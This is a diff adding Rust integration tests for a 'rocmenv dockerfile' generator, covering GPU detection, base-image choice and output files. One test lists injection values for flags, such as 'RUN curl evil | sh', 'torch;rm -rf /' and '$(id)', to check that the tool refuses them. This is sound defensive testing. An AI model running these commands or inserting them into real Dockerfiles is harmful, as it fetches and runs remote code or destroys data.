@@ -1,0 +1,192 @@
+//! `rocmenv dockerfile` as people run it: detection from host trees, the env baked in, files written, hostile values refused.
+
+use std::path::PathBuf;
+use std::process::{Command, Output};
+
+fn rocmenv(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_rocmenv"))
+        .args(args)
+        .env_remove("ROCMENV_MATRICES")
+        .output()
+        .expect("runs")
+}
+
+fn fixture(name: &str) -> String {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/fixtures/hosts")
+        .join(name)
+        .display()
+        .to_string()
+}
+
+fn dockerfile(args: &[&str]) -> String {
+    let o = rocmenv(args);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    String::from_utf8(o.stdout).unwrap()
+}
+
+#[test]
+fn a_gfx1031_host_gets_the_override_baked_in() {
+    let d = dockerfile(&[
+        "dockerfile",
+        "--stack",
+        "rocm",
+        "--sysroot",
+        &fixture("rx6700xt-ubuntu2204"),
+        "--rocm",
+        "6.2",
+    ]);
+    assert!(d.contains("FROM rocm/pytorch:rocm6.2"), "{d}");
+    assert!(d.contains("HSA_OVERRIDE_GFX_VERSION=\"10.3.0\""), "{d}");
+    assert!(d.contains("PYTORCH_ROCM_ARCH=\"gfx1030\""));
+    assert!(d.contains("io.rocmenv.gfx=\"gfx1031\""));
+}
+
+#[test]
+fn a_natively_supported_gpu_gets_no_override() {
+    let d = dockerfile(&[
+        "dockerfile",
+        "--stack",
+        "rocm",
+        "--sysroot",
+        &fixture("mi300x-x4-ubuntu2204"),
+        "--rocm",
+        "6.2",
+    ]);
+    assert!(!d.contains("HSA_OVERRIDE_GFX_VERSION"), "{d}");
+    assert!(d.contains("PYTORCH_ROCM_ARCH=\"gfx942\""));
+}
+
+#[test]
+fn the_igpu_neither_picks_the_image_nor_is_baked_in() {
+    let d = dockerfile(&[
+        "dockerfile",
+        "--stack",
+        "rocm",
+        "--sysroot",
+        &fixture("ryzen5600g-igpu-rx6800-mint21"),
+        "--rocm",
+        "6.2",
+    ]);
+    assert!(d.contains("io.rocmenv.gfx=\"gfx1030\""), "{d}");
+    assert!(
+        !d.contains("VISIBLE_DEVICES"),
+        "device numbering is the host's, not the image's"
+    );
+}
+
+#[test]
+fn ngc_follows_the_host_driver() {
+    let d = dockerfile(&[
+        "dockerfile",
+        "--stack",
+        "ngc",
+        "--sysroot",
+        &fixture("rtx4090-driver-535"),
+    ]);
+    assert!(
+        d.contains("FROM nvcr.io/nvidia/pytorch:23.10-py3"),
+        "driver 535.104.05 runs CUDA 12.2 at most: {d}"
+    );
+    assert!(d.contains("TORCH_CUDA_ARCH_LIST=\"8.9\""));
+    let d = dockerfile(&["dockerfile", "--stack", "ngc", "--driver", "550.54.15"]);
+    assert!(d.contains("FROM nvcr.io/nvidia/pytorch:24.05-py3"), "{d}");
+    let o = rocmenv(&["dockerfile", "--stack", "ngc", "--driver", "470.0"]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("no NGC PyTorch release runs on driver 470.0")
+    );
+}
+
+#[test]
+fn output_dir_gets_the_whole_context_and_no_temp_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("ctx");
+    let o = rocmenv(&[
+        "dockerfile",
+        "--stack",
+        "cpu",
+        "--with-smoke-tests",
+        "-o",
+        out.to_str().unwrap(),
+    ]);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    assert!(String::from_utf8_lossy(&o.stdout).starts_with(&format!("wrote {}", out.display())));
+    let mut names: Vec<String> = walk(&out);
+    names.sort();
+    assert_eq!(
+        names,
+        [".dockerignore", "Dockerfile", "smoke-tests/README.md"]
+    );
+    let d = std::fs::read_to_string(out.join("Dockerfile")).unwrap();
+    assert!(d.contains("COPY smoke-tests/ /opt/rocmenv/smoke-tests/"));
+}
+
+fn walk(root: &std::path::Path) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                out.push(p.strip_prefix(root).unwrap().display().to_string());
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn hostile_values_are_refused_naming_the_flag() {
+    for (flag, value) in [
+        ("--pip", "numpy\nRUN curl evil | sh"),
+        ("--pip", "torch;rm -rf /"),
+        ("--pip", "$(id)"),
+        ("--apt", "vim && curl x"),
+        ("--apt", "`reboot`"),
+        ("--base", "debian:bookworm\nRUN id"),
+        ("--base", "Debian:Latest"),
+        ("--source", "https://x\" evil=\"y"),
+    ] {
+        let mut args = vec!["dockerfile", "--stack", "cpu", flag, value];
+        if flag == "--base" {
+            args = vec!["dockerfile", "--stack", "cpu", "--base", value];
+        }
+        let o = rocmenv(&args);
+        let e = String::from_utf8_lossy(&o.stderr);
+        assert_eq!(o.status.code(), Some(2), "{flag} {value:?} accepted: {e}");
+        assert!(e.contains(flag), "{e}");
+        assert_eq!(e.trim_end().lines().count(), 1, "{e}");
+        assert!(o.stdout.is_empty());
+    }
+}
+
+#[test]
+fn an_unknown_combination_lists_the_nearest() {
+    let o = rocmenv(&[
+        "dockerfile",
+        "--stack",
+        "rocm",
+        "--gfx",
+        "gfx942",
+        "--rocm",
+        "6.9",
+        "--pytorch",
+        "2.4",
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    let e = String::from_utf8_lossy(&o.stderr);
+    assert!(e.contains("nearest: rocm6.4"), "{e}");
+}
